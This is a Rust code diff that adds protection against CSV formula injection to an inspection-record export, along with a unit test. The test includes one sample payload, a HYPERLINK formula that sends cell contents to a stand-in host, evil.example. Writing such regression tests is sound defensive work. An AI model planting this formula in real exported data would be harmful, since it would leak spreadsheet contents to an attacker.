@@ -116,9 +116,21 @@ fn rows(township: &TownshipWeek) -> Vec<[String; 12]> {
     rows
 }
 
+/// A cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, a tab or a carriage return
+/// first: CSV injection, OWASP) is prefixed with `'`, which the spreadsheet shows as text. Names
+/// and notes come from people; no figure of ours starts with one of these.
+fn neutral(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
 /// The record as CSV: a title line, the headers, a row per inspector of every village.
 pub fn csv(record: &WeekRecord) -> Vec<u8> {
     let quote = |cell: &str| {
+        let cell = neutral(cell);
         if cell.contains([',', '"', '\n', '\r']) {
             format!("\"{}\"", cell.replace('"', "\"\""))
         } else {
@@ -251,4 +263,27 @@ pub fn file_name(record: &WeekRecord, extension: &str) -> String {
         "巡查台账_{}_{}_{}.{extension}",
         record.grid.name, record.grid.code, record.week
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::neutral;
+
+    /// Issue 22, finding 5: a display name `=HYPERLINK(…)` landed in the CSV as a formula.
+    #[test]
+    fn cells_that_would_be_formulas_are_text() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(neutral(cell), format!("'{cell}"));
+        }
+        for cell in ["张伟", "12", "0.85", "车民街道", "a=b"] {
+            assert_eq!(neutral(cell), cell);
+        }
+    }
 }
